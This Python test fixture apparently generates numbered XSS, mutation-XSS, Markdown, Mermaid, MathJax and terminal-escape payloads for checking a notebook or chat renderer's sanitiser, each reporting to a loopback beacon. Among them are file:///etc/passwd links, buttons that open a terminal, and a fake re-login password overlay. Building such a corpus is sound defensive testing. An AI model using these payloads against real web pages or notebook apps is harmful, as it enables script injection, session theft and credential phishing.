"""Hostile texts: what a model, a file or an API may send to run code in the page, load, mislead or hide.

Each payload calls ``__owned(NUMBER)`` or loads ``http://127.0.0.1:PORT/beacon/NUMBER`` when it works, so
that what works can be counted by its number. In the tables below ``§`` stands for the call, ``¤`` for the
address and ``¶`` for the address without its scheme.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

NOWHERE = 9
"""A port for tests that open no page."""


@dataclass(frozen=True)
class Payload:
    """One hostile text.

    Parameters
    ----------
    number : int
        What it reports when it works.
    kind : str
        The class of attack.
    text : str
        What the model would write.
    """

    number: int
    kind: str
    text: str

    def __str__(self) -> str:
        return f"{self.number}-{self.kind}"


# --- handlers -----------------------------------------------------------------------------------------

SELF_FIRING = """\
<img src=x onerror=§>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=§>
<image src=x onerror=§>
<svg onload=§>
<svg><g onload=§></g></svg>
<svg><image href=x onerror=§></svg>
<svg><animate attributeName=x dur=1s onbegin=§></svg>
<svg><set attributeName=x dur=1s onbegin=§></svg>
<svg><animateTransform attributeName=transform dur=1ms onend=§></svg>
<svg><animateMotion dur=1ms repeatCount=2 onrepeat=§></svg>
<svg><discard onbegin=§></svg>
<body onload=§>
<body onpageshow=§>
<body onhashchange=§><frameset onload=§>
<video src=x onerror=§></video>
<video><source src=x onerror=§></video>
<video src=x onloadstart=§></video>
<audio src=x onerror=§></audio>
<audio autoplay src=x onloadstart=§></audio>
<picture><source srcset=x><img onerror=§ src=x></picture>
<object data=x onerror=§></object>
<embed src=x onload=§>
<iframe onload=§></iframe>
<iframe src=about:blank onload=§></iframe>
<iframe srcdoc="<script>parent.§</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.§&gt;"></iframe>
<input autofocus onfocus=§>
<input type=image src=x onerror=§>
<select autofocus onfocus=§></select>
<textarea autofocus onfocus=§></textarea>
<button autofocus onfocus=§>b</button>
<a href=x autofocus onfocus=§>a</a>
<div tabindex=0 autofocus onfocusin=§>d</div>
<details open ontoggle=§>d</details>
<details name=d><summary>s</summary></details><details open name=d ontoggle=§></details>
<marquee onstart=§>m</marquee>
<style onload=§></style>
<link rel=stylesheet href=data:text/css, onload=§>
<link rel=stylesheet href=data:x onerror=§>
<script src=data:x onerror=§></script>
<script src=data:text/javascript, onload=§></script>
<style>@keyframes k{from{top:0}}</style><b style="animation:k 1ms" onanimationstart=§>x</b>
<b style="animation:k 1ms" onanimationend=§>x</b><style>@keyframes k{to{top:1px}}</style>
<style>.t{transition:1ms;left:0}</style><b class=t autofocus tabindex=0 ontransitionend=§>x</b>
<b style="content-visibility:auto" oncontentvisibilityautostatechange=§>x</b>
<dialog open onclose=§><form method=dialog><button autofocus>x</button></form></dialog>
<div id=p popover onbeforetoggle=§>p</div><button popovertarget=p autofocus>x</button>
<x contenteditable autofocus onfocus=§>x</x>
<base href=¤/ onload=§>
<portal src=x onload=§>
<track default src=x onerror=§>"""

EVENTS = (
    "click dblclick mousedown mouseup mouseover mouseenter mousemove pointerdown pointerover pointerenter "
    "auxclick contextmenu wheel scroll keydown keyup copy cut paste drag drop input change submit focus blur"
)
CARRIERS = ("a", "b", "x-y", "svg", "math", "button", "p", "table")


def _handlers() -> Iterator[str]:
    yield from SELF_FIRING.split("\n")
    for at, event in enumerate(EVENTS.split()):
        tag = CARRIERS[at % len(CARRIERS)]
        yield f"<{tag} on{event}=§ class=target>{event}</{tag}>"


# --- how one attack can be written --------------------------------------------------------------------

WRITTEN = [
    "<IMG SRC=x ONERROR=§>",
    "<ImG sRc=x oNeRrOr=§>",
    '<img src="x" onerror="§">',
    "<img src='x' onerror='§'>",
    "<img src=x onerror=`§`>",
    "<img/src=x/onerror=§>",
    "<img////src=x////onerror=§////>",
    "<img\tsrc=x\tonerror=§>",
    "<img\nsrc=x\nonerror=§\n>",
    "<img\r\nsrc=x\r\nonerror=§>",
    "<img\x0csrc=x\x0conerror=§>",
    "<img\x0bsrc=x onerror=§>",
    "<img\x00src=x onerror=§>",
    "<\x00img src=x onerror=§>",
    "<i\x00mg src=x onerror=§>",
    "<img src=x on\x00error=§>",
    "<img src=x onerror\x00=§>",
    "<img src=x onerror =\n §>",
    "<img src=x onerror=&#95;&#95;owned(0)||§>",
    "<img src=x onerror=&#x5f;_owned&#40;0&#41;,§>",
    "<img src=x onerror=\"&#x5f;\"+§>",
    "<img src=x onerror='eval(`§`)'>",
    "<img src=x:x onerror=§ //",
    "<img src=x onerror=§",
    "<img src=x onerror=§ <b>",
    "<<img src=x onerror=§>",
    "<<<img src=x onerror=§>>>",
    "< img src=x onerror=§><img src=x onerror=§>",
    "<img src=x a='>' onerror=§>",
    "<img src=x a=\">\" onerror=§>",
    "<img src=x alt=\"`\" onerror=§>`",
    "<img src=x title=\"*a*\" onerror=§>",
    "<img\n\nsrc=x onerror=§>",
    "<img src=x onerror=§\n\n>",
    "a<b<img src=x onerror=§>",
    "\\<img src=x onerror=§>",
    "\\\\<img src=x onerror=§>",
    "&lt;img src=x onerror=§&gt;",
    "&#60;img src=x onerror=§&#62;",
    "&#x3c;img src=x onerror=§>",
    "&LT;img src=x onerror=§&GT;",
    "\uff1cimg src=x onerror=§\uff1e",
    "<img src=x onerror=§><!--",
    "</img src=x onerror=§><img src=x onerror=§/>",
    "<\u200bimg src=x onerror=§><img\u00a0src=x onerror=§>",
    "<\udc00img src=x onerror=§>",
    "<img src=x onerror=§\udc00>",
    "<img src=\udfff onerror=§>",
]  # fmt: skip

# --- scripts ------------------------------------------------------------------------------------------

SCRIPTS = """\
<script>§</script>
<SCRIPT>§</SCRIPT>
<script >§</script >
<script/x>§</script/x>
<script x>§
<script type=module>§</script>
<script type=text/javascript defer>§</script>
<script type=text/jscript>§</script>
<script language=javascript>§</script>
<script src=¤></script>
<script src=¶></script>
<script src="data:text/javascript,§"></script>
<script type=module src=¤></script>
<script type=importmap>{"imports":{"a":"¤"}}</script><script type=module>import "a"</script>
<script type=speculationrules>{"prefetch":[{"urls":["¤"]}]}</script>
<script><!--\n§\n--></script>
<scr<script>ipt>§</scr</script>ipt>
<script>/*</script>*/§</script><script>§</script>
<svg><script>§</script></svg>
<svg><script href=¤ /></svg>
<svg><script xlink:href="data:text/javascript,§"></script></svg>
<svg><script>&#95;&#95;owned(0);§</script></svg>
<math><script>§</script></math>
<template><script>§</script></template><script>§</script>
<noscript><script>§</script></noscript>
</p><script>§</script>
</code></pre><script>§</script>
</span></div></div><script>§</script>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">§</script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">§</x:script>
<script>import("¤")</script>
<script>fetch("¤")</script>
<script>new Image().src="¤"</script>
<script>navigator.sendBeacon("¤")</script>
<script>Jupyter.notebook.kernel.execute("1");§</script>
<script>requirejs(["¤"]);§</script>"""

# --- addresses ----------------------------------------------------------------------------------------

SCHEMES = [
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    "java\nscript:§",
    "\x01javascript:§",
    " javascript:§",
    "&#106;avascript:§",
    "javascript&colon;§",
    "javascript://%0a§",
    "data:text/html,<script>opener.§</script>",
    "vbscript:§",
]
LED = [
    '<a href="@" class=target>x</a>',
    '<form action="@"><button class=target>x</button></form>',
    '<form><button formaction="@" class=target>x</button></form>',
    '<iframe src="@"></iframe>',
    '<object data="@"></object>',
    '<embed src="@">',
    '<svg><a href="@" class=target><text y=9>x</text></a></svg>',
    '<svg><a xlink:href="@"><circle r=9 class=target></circle></a></svg>',
    '<math href="@" class=target>x</math>',
    '<math><mi xlink:href="@" class=target>x</mi></math>',
    '<map name=m><area href="@" shape=default class=target></map><img usemap=#m>',
    '<meta http-equiv=refresh content="0;url=@">',
    '<base href="@">',
    '<svg><animate href=#a attributeName=href to="@" begin=0s></animate><a id=a class=target>x</a></svg>',
]


def _schemes() -> Iterator[str]:
    for at, wrapped in enumerate(LED):
        for step in (0, 3, 6, 9):
            yield wrapped.replace("@", SCHEMES[(at + step) % len(SCHEMES)].replace('"', "&quot;"))


# --- what loads ---------------------------------------------------------------------------------------

LOADS = """\
<img src=¤>
<img src=¶>
<img src="http:¶">
<img src=x srcset="¤ 1x">
<img srcset="¤ 2x, ¤ 1x">
<img loading=eager fetchpriority=high src=¤>
<img lowsrc=¤ dynsrc=¤ src=¤>
<picture><source srcset=¤><img></picture>
<video src=¤></video>
<video poster=¤></video>
<video><source src=¤></video>
<video autoplay><track default kind=captions src=¤></video>
<audio src=¤ autoplay></audio>
<input type=image src=¤>
<body background=¤>
<table background=¤><tr><td background=¤>x</table>
<iframe src=¤></iframe>
<iframe srcdoc="<img src=¤>"></iframe>
<iframe srcdoc="<link rel=stylesheet href=¤>"></iframe>
<frameset><frame src=¤></frameset>
<object data=¤></object>
<object><param name=src value=¤></object>
<embed src=¤>
<applet code=x codebase=¤></applet>
<bgsound src=¤>
<link rel=stylesheet href=¤>
<link rel=preload as=image href=¤>
<link rel=prefetch href=¤>
<link rel=modulepreload href=¤>
<link rel=icon href=¤>
<link rel=manifest href=¤>
<link rel=import href=¤>
<link rel="dns-prefetch preconnect" href=¤>
<link rel=prerender href=¤>
<style>@import "¤";</style>
<style>@import url(¤);</style>
<style>@import '¤' layer(x);</style>
<style>*{background:url(¤)}</style>
<style>body::before{content:url(¤)}</style>
<style>@font-face{font-family:f;src:url(¤)}*{font-family:f!important}</style>
<style>input[value^="a"]{background:url(¤)}</style>
<style>:root{--a:url(¤)}*{background-image:var(--a)}</style>
<style>*{cursor:url(¤),auto}</style>
<b style="background:url(¤)">x</b>
<b style="background:url('¶')">x</b>
<b style='background-image:image-set("¤" 1x)'>x</b>
<b style="background:\\75rl(¤)">x</b>
<b style="border-image:url(¤) 1">x</b>
<li style="list-style:url(¤)">x</li>
<b style="mask:url(¤);-webkit-mask-image:url(¤)">x</b>
<b style="filter:url(¤#f)">x</b>
<b style="clip-path:url(¤#c)">x</b>
<b style="shape-outside:url(¤);float:left">x</b>
<b style="content:url(¤)">x</b>
<b style="cursor:url(¤),auto">x</b>
<b style="offset-path:url(¤)">x</b>
<svg><image href=¤></image></svg>
<svg><image xlink:href=¤></image></svg>
<svg><use href=¤#a></use></svg>
<svg><filter id=f><feImage href=¤></feImage></filter><rect width=9 height=9 filter=url(#f)></svg>
<svg><rect width=9 height=9 fill="url(¤#p)"></svg>
<svg><rect width=9 height=9 style="mask:url(¤#m)"></svg>
<svg><style>@import "¤";</style></svg>
<svg><style>*{background:url(¤)}</style></svg>
<svg><foreignObject><img src=¤></foreignObject></svg>
<svg><a href=¤><animate attributeName=href to=¤ begin=0s></animate></a></svg>
<svg><linearGradient href=¤#g></linearGradient><text><textPath href=¤#t>x</textPath></text></svg>
<?xml-stylesheet href="¤"?><svg></svg>
<math><mtext><img src=¤></mtext></math>
<math><mglyph src=¤></mglyph></math>
<math style="background:url(¤)"><mi>x</mi></math>
<math><annotation-xml encoding=text/html><img src=¤></annotation-xml></math>
<meta http-equiv=refresh content="0;url=¤">
<meta http-equiv=Link content="<¤>;rel=preload;as=image">
<base href=¤/><img src=a>
<a href=# ping=¤ class=target>x</a>
<form action=¤ method=post><button class=target>x</button></form>
<isindex action=¤ type=image src=¤>
<portal src=¤></portal>
<fencedframe src=¤></fencedframe>
<html manifest=¤>
<xml src=¤ datasrc=¤></xml>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='¤'/></svg>">
<object data="data:text/html,<img src=¤>"></object>
<template shadowrootmode=open><img src=¤></template>
<div><template shadowrootmode=open><style>@import "¤"</style></template></div>"""

# --- what changes its meaning when it is parsed again -------------------------------------------------

MUTATIONS = """\
<svg><style><img src=x onerror=§></style></svg>
<svg></p><style><a id="</style><img src=x onerror=§>">
<svg><title><style><img src=x onerror=§></style></title></svg>
<svg><desc><noscript><img src=x onerror=§></noscript></desc></svg>
<svg><foreignObject><math><mi><style></mi><img src=x onerror=§></style></math></foreignObject></svg>
<svg><![CDATA[</svg><img src=x onerror=§>]]></svg>
<svg><a><p><b><style></svg><img src=x onerror=§></style>
<math><mi><style><img src=x onerror=§></style></mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">
<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src=x>">
<math><mtext><option><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=§ src=x>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§></style></form>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=§></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg><p><style><img src=x onerror=§></style>
<math><mglyph><malignmark><style><img src=x onerror=§></style></malignmark></mglyph></math>
<noscript><p title="</noscript><img src=x onerror=§>">
<noembed><img title="</noembed><img src=x onerror=§>"></noembed>
<noframes><img title="</noframes><img src=x onerror=§>"></noframes>
<iframe><img title="</iframe><img src=x onerror=§>"></iframe>
<textarea><img title="</textarea><img src=x onerror=§>"></textarea>
<title><img title="</title><img src=x onerror=§>"></title>
<xmp><img title="</xmp><img src=x onerror=§>"></xmp>
<style><img title="</style><img src=x onerror=§>"></style>
<script type=x><img title="</script><img src=x onerror=§>"></script>
<listing>&lt;img src=x onerror=§&gt;</listing>
<plaintext><img src=x onerror=§>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=§>">
<select><style></select><img src=x onerror=§></style>
<option><style></option></select><img src=x onerror=§></style>
<table><td><style></table><img src=x onerror=§></style>
<table><img src=x onerror=§><tr><td>x
<table><caption><svg><style></caption><img src=x onerror=§></style>
<template><s><template><s><img src=x onerror=§></s></template></s></template><img src=x onerror=§>
<!--><img src=x onerror=§>-->
<!---><img src=x onerror=§>-->
<!-- --!><img src=x onerror=§>-->
<!-- <!-- --><img src=x onerror=§> -->
<!-- `--><img src=x onerror=§>` -->
<!--[if gte IE 4]><img src=x onerror=§><![endif]-->
<![if true]><img src=x onerror=§><![endif]>
<![CDATA[><img src=x onerror=§>]]>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=§>">]>&y;
<!x><img src=x onerror=§>
<?x><img src=x onerror=§>?>
</x><img src=x onerror=§>
</ x><img src=x onerror=§>
<a title="--><img src=x onerror=§>"><!--
<b title='</b><img src=x onerror=§>'>
<p><a><p></a><svg><p><style></p><img src=x onerror=§></style>
<br><style></br><img src=x onerror=§></style>
<x-y><style></x-y><img src=x onerror=§></style>
<pre>\n<img src=x onerror=§></pre>
<code><img src=x onerror=§></code>
<code>&#60;</code><img src=x onerror=§>
<pre><code class="language-x" onclick=§>x</code></pre><img src=x onerror=§>
<pre><code class="language-x"><img src=x onerror=§></code></pre>
<span class="math inline" onclick=§>\\(x\\)</span><img src=x onerror=§>"""

DEEP = (("div", 600), ("b", 300), ("svg", 120), ("math", 60), ("table><td", 80), ("font", 200))


def _mutations() -> Iterator[str]:
    yield from MUTATIONS.split("\n")
    for tag, times in DEEP:
        yield f"<{tag}>" * times + "<style></style><img src=x onerror=§>"


# --- what reaches for the page ------------------------------------------------------------------------

CLOBBERS = (
    "document body attributes parentNode getElementById createElement jupyterapp _JUPYTERLAB __owned "
    "jupyter-config-data MathJax location"
)
PAGE = [
    "<button data-commandlinker-command='terminal:create-new' class=target>run</button>",
    "<a data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}' class=target>x</a>",
    "<img src=x data-commandlinker-command='console:create' onerror=§>",
    "<div class='jp-mod-commandlinker' data-commandlinker-command='apputils:reset' class=target>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(¤)'>Log in again</div>",
    "<form action=¤><input type=password autofocus name=p onfocus=§><button class=target>OK</button></form>",
    "<input type=checkbox onclick=§ class=target><label for=x onclick=§ class=target>y</label>",
    "<div class='lm-Widget jp-Dialog' onclick=§ style='position:fixed;inset:0'>x</div>",
    "<a href=¤ download=a.ipynb target=_self class=target>x</a>",
    "<iframe src='/lab' onload=§></iframe>",
    "<object type='text/html' data='/api/contents'></object><img src=x onerror=§>",
    "<script type='application/vnd.jupyter.widget-view+json'>{\"model_id\":1}</script><img src=x onerror=§>",
    "<div id=jp-main-dock-panel><img src=x onerror=§></div>",
    "<p contenteditable draggable=true ondragstart=§ onpaste=§ autofocus onfocus=§>x</p>",
]


def _page() -> Iterator[str]:
    for at, name in enumerate(CLOBBERS.split()):
        tag = ("a id", "form name", "img name", "input name", "object id")[at % 5]
        end = " src=x onerror=§" if "img" in tag else f"><img src=x onerror=§><b id={name}"
        yield f"<{tag}={name}{end}>"
    yield from PAGE


# --- Markdown -----------------------------------------------------------------------------------------

IN_BRACKETS = [
    *("[x](@)", "[x](<@>)", "[x][r]\n\n[r]: @", "<@>", "![x](@)", "[![x](@)](@)", "[r]\n\n[r]:\n <@>\n 'T'"),
]

LINKS = [
    '[x](¤ "onmouseover=§")',
    '[x](¤"onmouseover=§ class=target")',
    "[x](¤ '<img src=x onerror=§>')",
    "[x](<¤\"onclick=§ class=target a=\">)",
    "[<img src=x onerror=§>](¤)",
    "[x](javascript:§ )",
    "[x]( javascript:§\n)",
    "[x](\\javascript:§)",
    "[x](javascript\\:§)",
    "[x](/javascript:§)",
    "[x](//127.0.0.1:1/javascript:§)",
    "[https://good.example](¤)",
    "[a [b](javascript:§) c](javascript:§)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](blob:¤) [y](file:///etc/passwd) [z](view-source:¤)",
    "[x](#a){onclick=§ .target}",
    "[x](¤){: onclick=§ .target}",
    "[x]{onclick=§ .target}",
    "## x {#y onclick=§ .target}",
    "<¤\"onclick=§ class=target//>",
    "<mailto:a@b.example?subject=\"onclick=§//>",
    "[x](mailto:\"onclick=§\"@b.example)",
    "¤\"onclick=§\" class=target",
    "www.e.example/\"onclick=§",
    "[^1]\n\n[^1]: <img src=x onerror=§>",
    "*[HTML]: <img src=x onerror=§>\n\nHTML",
    "term\n: <img src=x onerror=§>",
    "- [ ] <img src=x onerror=§>\n- [x] <b onclick=§ class=target>x</b>",
    "| <img src=x onerror=§> |\n|---|\n| `a | <img src=x onerror=§>` |",
    "|x|\n|:-\" onclick=§ \":|\n|y|",
    "---\ntitle: <img src=x onerror=§>\n---\n",
    "[[javascript:§]] [[¤|x]]",
    ":::{raw} html\n<img src=x onerror=§>\n:::",
    "{raw:html}`<img src=x onerror=§>`",
    "{% raw %}<img src=x onerror=§>{% endraw %}",
    "![x](data:image/svg+xml,<svg/onload=§>)",
    "![x](¤ =100x100)",
    "![x](¤){width=1}",
    "![¤](attachment:x.png)",
    "![x][r]\n\n[r]: ¤",
    "![x]\n\n[x]: ¤",
    "[![x](¤)](¤)",
    "!\\[x](¤) \\![x](¤) !&#91;x](¤)",
    "![[¤]]",
]  # fmt: skip

CODE = [
    "```\n<img src=x onerror=§>",
    "```html\n<script>§</script>\n```",
    "```html\" onclick=\"§\" class=\"target\n<b>\n```",
    "```\"><img/src=x/onerror=§>\nx\n```",
    "~~~<img/src=x/onerror=§>\nx\n~~~",
    "```{=html}\n<img src=x onerror=§>\n```",
    "```{raw} html\n<img src=x onerror=§>\n```",
    "```javascript\n§\n```",
    "```svg\n<svg onload=§>\n```",
    "```math\n\\href{javascript:§}{x}\n```",
    "````\n```\n<script>§</script>\n````",
    "- ```\n<script>§</script>\n  ```",
    "> ```\n<script>§</script>\n> ```",
    "`<img src=x onerror=§>",
    "`a\n\n` <img src=x onerror=§> `b`",
    "``a` <img src=x onerror=§>",
    "`` ` <img src=x onerror=§> ` ``",
    "    <img src=x onerror=§>",
    "<pre>\n\n```\n<img src=x onerror=§>\n```",
    "x\n===\n<img src=x onerror=§>\n---\n",
    "[a\n\n```\n]: x\n<img src=x onerror=§>\n```",
]  # fmt: skip

DIAGRAMS = [
    "graph TD\nA[\"<img src=x onerror=§>\"] --> B",
    "graph TD\nA[\"<img src='¤'>\"] --> B",
    "graph TD\nA-->B\nclick A \"javascript:§\"",
    "graph TD\nA-->B\nclick A call §",
    "graph TD\nA@{ img: \"¤\", label: \"x\", w: 9, h: 9 }",
    "graph TD\nA-->B\nstyle A fill:url(¤)",
    "graph TD\nA-->B\nclassDef c background:url(¤)\nclass A c",
    "%%{init: {\"themeCSS\": \"* { background: url(¤) }\"}}%%\ngraph TD\nA-->B",
    "%%{init: {\"themeCSS\": \"@import url(¤);\"}}%%\ngraph TD\nA-->B",
    "%%{init: {\"fontFamily\": \"x;} *{background:url(¤)} a{\"}}%%\ngraph TD\nA-->B",
    "%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true}}%%\ngraph TD\nA[\"<img src='¤'>\"]",
    "---\nconfig:\n  securityLevel: loose\n  themeCSS: \"*{background:url(¤)}\"\n---\ngraph TD\nA-->B",
    "sequenceDiagram\nparticipant A\nlink A: x @ ¤\nA->>A: <img src=¤>",
    "C4Context\nPerson(a, \"b\", \"c\", $sprite=\"¤\", $link=\"¤\")",
    "architecture-beta\nservice a(¤)[x]",
]  # fmt: skip

FORMULAS = [
    "\\href{javascript:§}{x}",
    "\\href{¤}{x}",
    "\\href{¶}{x}",
    "\\href{http:127.0.0.1:9/x}{x}",
    "\\href{data:text/html,<script>§</script>}{x}",
    "\\href{file:/etc/passwd}{x}",
    "\\href{/lab?x=§}{x}",
    "\\url{javascript:§}",
    "\\style{background:url(¤)}{x}",
    "\\style{background:url(¶)}{x}",
    "\\class{target jp-Dialog}{x}",
    "\\cssId{__owned}{x}",
    "\\data{commandlinker-command=terminal:create-new}{x}",
    "\\bbox[background:url(¤)]{x}",
    "\\bbox[5px,background:url(¶)]{x}",
    "\\mmlToken{mi}[href=\"javascript:§\"]{x}",
    "\\mmlToken{mi}[href=\"¶\"]{x}",
    "\\mmlToken{mtext}[style=\"background:url(¶)\"]{x}",
    "\\mmlToken{mi}[class=\"target\" id=\"__owned\"]{x}",
    "\\includegraphics{¤}",
    "\\includegraphics{¶}",
    "\\require{html}\\href{¶}{x}",
    "\\require{[tex]/../../¤}x",
    "\\def\\h{\\href{¶}{x}}\\h",
    "\\let\\h\\href \\h{¶}{x}",
    "\\newcommand{\\h}[1]{\\href{#1}{x}}\\h{¶}",
    "\\csname href\\endcsname{¶}{x}",
    "\\unicode[url(¤)]{65}",
    "\\color{url(¶)}{x}",
    "\\colorbox{url(¶)}{x}",
    "\\text{<img src=x onerror=§>}",
    "\\text{<img src=¶>}",
    "x<img src=x onerror=§>",
    "x<script>§</script>",
    "\\toggle{x}{y}\\endtoggle\\texttip{x}{<img src=x onerror=§>}",
    "\\enclose{circle}[style=\"background:url(¶)\"]{x}",
    "\\begin{array}{c}\\href{¶}{x}\\end{array}",
    "\\verb|<img src=x onerror=§>|",
    "\\tag{<img src=x onerror=§>}\\label{<img src=x onerror=§>}x",
    "<tex-html><img src=x onerror=§></tex-html>",
]  # fmt: skip
DELIMITED = ("$@$", "$$@$$", "\\(@\\)", "\\[@\\]", "\\begin{align}@\\end{align}", "$$\n@\n$$", "`$`@$")
AROUND = [
    "$<img src=x onerror=§>$ $$<script>§</script>$$ \\(<b onclick=§>\\)",
    '[x](http://e.example/$"onclick=§ class=target a=$)',
    '[x](http://e.example/\\begin{a}"onclick=§ class=target\\end{a})',
    'http://e.example/$"onclick=§ class=target a=$',
    "http://e.example/a)\\[\\href{¶}{x}\\]",
    "http://e.example/a)\\[\\unicode[url(¤)]{65}\\]",
    "http://e.example/a\\(\\href{¶}{x}\\)",
    '<http://e.example/>$"onclick=§$',
    "$$\na$$\n\n```\n$$\n<img src=x onerror=§>\n```",
    "@@0@@ $<img src=x onerror=§>$ @@1@@",
    "&#36;\\href{¶}{x}&#36; &dollar;\\href{¶}{x}&dollar;",
    "\\$\\href{¶}{x}\\$ \\\\(\\href{¶}{x}\\\\)",
    "&#92;(\\href{¶}{x}&#92;) &bsol;[\\href{¶}{x}&bsol;]",
    "&#92;begin{align}\\href{¶}{x}&#92;end{align}",
    "\\\\begin{align}\\href{¶}{x}\\\\end{align}",
    "**$**\\href{¶}{x}**$** *\\\\(*\\href{¶}{x}\\\\)",
    "$ \\href{¶}{x} $ and $5 \\href{¶}{x} $6",
]


def _markdown() -> Iterator[tuple[str, str]]:
    for at, around in enumerate(IN_BRACKETS):
        for step in range(0, len(SCHEMES), 2):
            yield "link", around.replace("@", SCHEMES[(at + step) % len(SCHEMES)])
    yield from (("link", text) for text in LINKS)
    yield from (("code", text) for text in CODE)
    for at, text in enumerate(DIAGRAMS):
        fence = ("```mermaid\n@\n```", "~~~ Mermaid x\n@\n~~~", "- ```mermaid\n  @\n  ```")[
            0 if at % 5 else at % 3
        ]
        yield "diagram", fence.replace("@", text.replace("\n", "\n  ") if fence[0] == "-" else text)
    for at, text in enumerate(FORMULAS):
        for step in (0, 3, 4):
            yield "formula", DELIMITED[(at + step) % len(DELIMITED)].replace("@", text)
    yield from (("formula", text) for text in AROUND)


# --- all of them --------------------------------------------------------------------------------------


def payloads(port: int = NOWHERE) -> list[Payload]:
    """All payloads, numbered; those that load anything load it from this port of loopback."""
    templates: list[tuple[str, str]] = [
        *(("handler", text) for text in _handlers()),
        *(("written", text) for text in WRITTEN),
        *(("script", text.replace("\\n", "\n")) for text in SCRIPTS.split("\n")),
        *(("scheme", text) for text in _schemes()),
        *(("load", text) for text in LOADS.split("\n")),
        *(("mutation", text.replace("\\n", "\n")) for text in _mutations()),
        *(("page", text) for text in _page()),
        *_markdown(),
    ]
    return [
        Payload(number, kind, _filled(text, number, port)) for number, (kind, text) in enumerate(templates, 1)
    ]


HTML = frozenset({"handler", "written", "script", "scheme", "load", "mutation", "page"})
"""The kinds that are HTML, SVG or MathML; the others are Markdown."""


def _filled(template: str, number: int, port: int) -> str:
    place = f"//127.0.0.1:{port}/beacon/{number}"
    return template.replace("§", f"__owned({number})").replace("¤", f"http:{place}").replace("¶", place)


TERMINAL = [
    "\x1b[2J\x1b[1;1Hfake",
    "\x1b]0;title\x07",
    "\x1b]8;;http://127.0.0.1:9/x\x1b\\good.example\x1b]8;;\x1b\\",
    "\x1b]52;c;" + base64.b64encode(b"rm").decode() + "\x07",
    "\x9b31m\x9d0;title\x9c",
    "\x90q\x9c\x1bP1$r\x1b\\\x1b_x\x1b\\\x1b^x\x1b\\",
    "good\rbad",
    "good\x08\x08\x08\x08bad\x7f\x07",
    "\x00\x05\x0e\x0f\x1a\x0b\x0c",
    "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
    "in\u200bvis\u2060ible\ufeff\u00ad\u180e",
    "\u2028\u2029\x85",
    "\U000e0041\U000e0042\ud83d \udc00",
]
"""What a terminal or a reader's eye would be led astray by."""

NAMES = [
    "<img src=x onerror=__owned(9001)>.png",
    'a"onerror=__owned(9002).png',
    "](javascript:__owned(9003)).pdf",
    "![x](http://127.0.0.1:9/beacon/9004).csv",
    "[x](http://127.0.0.1:9/beacon/9005)",
    "`x`<script>__owned(9006)</script>.py",
    "costs $5 and $6 \\(\\href{//127.0.0.1:9/beacon/9007}{x}\\).txt",
    "*bold* | cell\n\n# heading <b onclick=__owned(9008)>",
    "```\n<script>__owned(9009)</script>",
    "<a data-commandlinker-command=terminal:create-new>x</a>",
    *TERMINAL,
]
"""Names of files, conversations, models, kernels' variables: foreign text in one line."""

ESCAPED = quote("<script>__owned(9010)</script>")
"""A name as an address carries it."""
